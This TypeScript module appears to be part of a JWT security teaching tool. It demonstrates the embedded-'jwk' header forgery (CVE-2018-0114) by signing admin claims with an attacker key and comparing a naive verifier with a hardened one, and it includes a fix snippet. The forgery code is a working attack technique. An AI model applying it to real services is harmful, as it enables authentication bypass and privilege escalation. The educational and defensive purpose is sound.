import { exportJWK, generateKeyPair } from 'jose';
import { ok, type Result } from '@/core/errors';
import {
  ADMIN_CLAIMS,
  AUDIENCE,
  ISSUER,
  claimsText,
  readClaims,
  runClock,
  signCompact,
  withLifetime,
  type Inputs,
} from './attack-kit';
import type { AttackContext, AttackExperiment, AttackRun } from './experiment';
import { verifyHardened } from './hardened-verifier';
import { naiveVerifyEmbeddedJwk } from './naive-verifiers';

async function run(inputs: Inputs, context?: AttackContext): Promise<Result<AttackRun>> {
  const claims = readClaims(inputs);
  if (!claims.ok) return claims;
  const { nowMs, nowS } = runClock(context);

  const server = await generateKeyPair('ES256', { extractable: true });
  const serverJwk = await exportJWK(server.publicKey);
  const attacker = await generateKeyPair('ES256', { extractable: true });
  const attackerJwk = await exportJWK(attacker.publicKey);
  const forgedToken = await signCompact(
    { alg: 'ES256', typ: 'JWT', jwk: attackerJwk },
    withLifetime(claims.value, nowS),
    attacker.privateKey,
  );

  return ok({
    forgedToken,
    steps: [
      'The service verifies ES256 tokens with its own P-256 key pair, generated for this run.',
      'The attacker generated a P-256 key pair of their own.',
      `They put its public half in the header’s "jwk" (x = ${attackerJwk.x?.slice(0, 12) ?? ''}…) and signed the claims above with its private half (iat and exp added for the next hour where absent).`,
      'Both verifiers received exactly these bytes.',
    ],
    naive: await naiveVerifyEmbeddedJwk(forgedToken, serverJwk),
    hardened: await verifyHardened(forgedToken, {
      key: server.publicKey,
      algorithms: ['ES256'],
      issuer: ISSUER,
      audience: AUDIENCE,
      nowMs,
    }),
  });
}

/** The attacker's own key, embedded in the header's `jwk`. */
export const EMBEDDED_JWK: AttackExperiment = {
  id: 'embedded-jwk',
  title: 'Embedded key ("jwk" header)',
  situation:
    'A JWS header may carry the public key that signed it ("jwk", RFC 7515 §4.1.3). An attacker signs a token with a key pair of their own and embeds its public half.',
  why: 'The naive verifier checks the signature with the key the token brought, so it only proves that the attacker signed their own token. The hardened one uses the service’s key and nothing from the header: the signature does not verify.',
  fix: `import { createLocalJWKSet, jwtVerify } from 'jose';

// keys come from configuration; never jwtVerify(token, EmbeddedJWK) for tokens from strangers
const keys = createLocalJWKSet({ keys: [servicePublicJwk] });
const { payload } = await jwtVerify(token, keys, {
  algorithms: ['ES256'],
  issuer: 'https://login.example.com',
  audience: 'api.example.com',
});`,
  reference: {
    label: 'CVE-2018-0114 (node-jose < 0.11.0 trusted the embedded key); RFC 8725 §3.10',
    url: 'https://nvd.nist.gov/vuln/detail/CVE-2018-0114',
  },
  defence: { label: 'The debugger warns when a header carries its own key', path: '/' },
  inputs: [
    {
      name: 'claims',
      label: 'Claims the attacker writes',
      initial: claimsText(ADMIN_CLAIMS),
      multiline: true,
    },
  ],
  run,
};
